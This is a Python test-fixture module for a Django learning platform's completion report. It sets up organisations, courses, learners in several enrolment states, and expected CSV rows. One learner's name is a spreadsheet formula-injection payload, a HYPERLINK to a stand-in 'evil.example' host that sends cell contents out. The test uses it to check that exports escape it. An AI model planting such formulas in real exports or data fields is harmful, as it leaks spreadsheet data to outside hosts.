"""A small, hand-made world for the report tests, and the completion report's rows
for it written out by hand (not derived from the report's own query)."""

from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from learning.accounts.models import Organisation
from learning.accounts.roles import appoint_focal_point
from learning.certificates.models import CertificateStatus
from learning.progress.models import CourseCompletion, EnrolmentStatus, StepProgress
from learning.progress.services import enrol
from tests.certificates.factories import make_certificate
from tests.factories import UserFactory, make_course, make_module

NOW = datetime(2026, 3, 10, 9, 0, tzinfo=UTC)
CSV_HEADINGS = [
    "Learner",
    "Email",
    "Organisation",
    "Course",
    "Language",
    "Enrolled at (UTC)",
    "Due date (UTC)",
    "Progress %",
    "Status",
    "Completed at (UTC)",
    "Course score",
    "Certificate",
    "Certificate status",
]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@contextmanager
def clock_at(moment):
    """timezone.now() returns `moment` inside: for data built once per module on
    the clock its tests freeze (a module-scoped fixture cannot use monkeypatch)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(timezone, "now", lambda: moment)
        yield


class World:
    """Organisations UNDP (with UNCDF below it), WHO and UNICEF; courses "Data
    governance" (2 modules, topic "data") and "Cloud strategy" (3 modules and an
    optional one, topic "cloud"); six learners in every state."""

    def __init__(self):
        self.undp = Organisation.objects.create(acronym="UNDP", name="Development")
        self.uncdf = Organisation.objects.create(
            acronym="UNCDF", name="Capital Development Fund", parent=self.undp
        )
        self.who = Organisation.objects.create(acronym="WHO", name="Health")
        self.unicef = Organisation.objects.create(acronym="UNICEF", name="Children")

        self.data = make_course("Data governance", topics=["data"])
        self.data_modules = [make_module(self.data, title=f"Data {n}") for n in (1, 2)]
        self.cloud = make_course("Cloud strategy", topics=["cloud"])
        self.cloud_modules = [
            make_module(self.cloud, title=f"Cloud {n}") for n in (1, 2, 3)
        ]
        self.cloud_optional = make_module(
            self.cloud, title="Cloud extra", optional=True
        )

        self.amina = self.learner("Amina Diallo", "amina@example.org", self.undp)
        self.bruno = self.learner("Bruno Costa", "bruno@example.org", self.uncdf)
        self.chen = self.learner("Chen Wei", "chen@example.org", self.who)
        self.dana = self.learner("Dana Smith", "dana@example.org", self.who)
        self.eli = self.learner(HOSTILE_NAME, "eli@example.org", self.unicef)
        self.fay = self.learner("Fay Okafor", "fay@example.org", None)

        day = timedelta(days=1)
        # Amina completed Data governance; her certificate is valid.
        amina = enrol(self.amina, self.data, now=NOW - 9 * day)
        self.done(amina, self.data_modules, NOW - 8 * day)
        completion = self.complete(amina, NOW - 7 * day, Decimal("80.00"))
        self.amina_code = make_certificate(completion, now=NOW, with_file=False).code
        # Bruno read one module of two; due in the future.
        bruno = enrol(self.bruno, self.data, now=NOW - 5 * day, due_at=NOW + 5 * day)
        self.done(bruno, self.data_modules[:1], NOW - 4 * day)
        # Chen never started Cloud strategy, due yesterday: overdue.
        enrol(self.chen, self.cloud, now=NOW - 6 * day, due_at=NOW - day)
        # Dana enrolled in Cloud strategy and withdrew.
        dana = enrol(self.dana, self.cloud, now=NOW - 3 * day)
        dana.status = EnrolmentStatus.WITHDRAWN
        dana.ended_at = NOW - 2 * day
        dana.save()
        # Eli did one required module of three and the optional one.
        eli = enrol(self.eli, self.cloud, now=NOW - 2 * day)
        self.done(eli, [self.cloud_modules[0], self.cloud_optional], NOW - day)
        # Fay completed Data governance; her certificate was revoked.
        fay = enrol(self.fay, self.data, now=NOW - 20 * day)
        self.done(fay, self.data_modules, NOW - 15 * day)
        completion = self.complete(fay, NOW - 15 * day, Decimal("92.50"))
        self.fay_code = make_certificate(
            completion,
            now=NOW,
            with_file=False,
            status=CertificateStatus.REVOKED,
            revoked_at=NOW,
        ).code
        # Chen also visited Data governance once (not enrolled by anyone else).
        chen = enrol(self.chen, self.data, now=NOW - day)
        StepProgress.objects.create(
            enrolment=chen,
            step_key=self.data_modules[0].translation_key,
            started_at=NOW - day,
            last_visited_at=NOW - day,
        )

    @staticmethod
    def learner(name, email, organisation):
        return UserFactory(full_name=name, email=email, organisation=organisation)

    @staticmethod
    def done(enrolment, steps, when):
        for step in steps:
            StepProgress.objects.create(
                enrolment=enrolment,
                step_key=step.translation_key,
                started_at=when,
                last_visited_at=when,
                completed_at=when,
            )

    @staticmethod
    def complete(enrolment, when, score):
        return CourseCompletion.objects.create(
            enrolment=enrolment, completed_at=when, score=score, hours=Decimal("2")
        )

    def focal_point(self, *organisations, email="focal@example.org"):
        user = UserFactory(email=email, full_name="Focal Point")
        appoint_focal_point(user, organisations)
        return user

    def expected_rows(self):
        """Every row of the report at NOW, by learner email and course, as a
        spreadsheet shows them (UTC)."""
        return {
            ("amina@example.org", "Data governance"): {
                "Learner": "Amina Diallo",
                "Organisation": "UNDP",
                "Language": "",
                "Enrolled at (UTC)": "2026-03-01 09:00",
                "Due date (UTC)": "",
                "Progress %": "100",
                "Status": "Completed",
                "Completed at (UTC)": "2026-03-03 09:00",
                "Course score": "80.00",
                "Certificate": self.amina_code,
                "Certificate status": "Valid",
            },
            ("bruno@example.org", "Data governance"): {
                "Learner": "Bruno Costa",
                "Organisation": "UNCDF",
                "Language": "",
                "Enrolled at (UTC)": "2026-03-05 09:00",
                "Due date (UTC)": "2026-03-15 09:00",
                "Progress %": "50",
                "Status": "In progress",
                "Completed at (UTC)": "",
                "Course score": "",
                "Certificate": "",
                "Certificate status": "",
            },
            ("chen@example.org", "Cloud strategy"): {
                "Learner": "Chen Wei",
                "Organisation": "WHO",
                "Language": "",
                "Enrolled at (UTC)": "2026-03-04 09:00",
                "Due date (UTC)": "2026-03-09 09:00",
                "Progress %": "0",
                "Status": "Overdue",
                "Completed at (UTC)": "",
                "Course score": "",
                "Certificate": "",
                "Certificate status": "",
            },
            ("chen@example.org", "Data governance"): {
                "Learner": "Chen Wei",
                "Organisation": "WHO",
                "Language": "",
                "Enrolled at (UTC)": "2026-03-09 09:00",
                "Due date (UTC)": "",
                "Progress %": "0",
                "Status": "In progress",
                "Completed at (UTC)": "",
                "Course score": "",
                "Certificate": "",
                "Certificate status": "",
            },
            ("dana@example.org", "Cloud strategy"): {
                "Learner": "Dana Smith",
                "Organisation": "WHO",
                "Language": "",
                "Enrolled at (UTC)": "2026-03-07 09:00",
                "Due date (UTC)": "",
                "Progress %": "0",
                "Status": "Withdrawn or removed",
                "Completed at (UTC)": "",
                "Course score": "",
                "Certificate": "",
                "Certificate status": "",
            },
            ("eli@example.org", "Cloud strategy"): {
                "Learner": "'" + HOSTILE_NAME,
                "Organisation": "UNICEF",
                "Language": "",
                "Enrolled at (UTC)": "2026-03-08 09:00",
                "Due date (UTC)": "",
                "Progress %": "33",
                "Status": "In progress",
                "Completed at (UTC)": "",
                "Course score": "",
                "Certificate": "",
                "Certificate status": "",
            },
            ("fay@example.org", "Data governance"): {
                "Learner": "Fay Okafor",
                "Organisation": "",
                "Language": "",
                "Enrolled at (UTC)": "2026-02-18 09:00",
                "Due date (UTC)": "",
                "Progress %": "100",
                "Status": "Completed",
                "Completed at (UTC)": "2026-02-23 09:00",
                "Course score": "92.50",
                "Certificate": self.fay_code,
                "Certificate status": "Revoked",
            },
        }
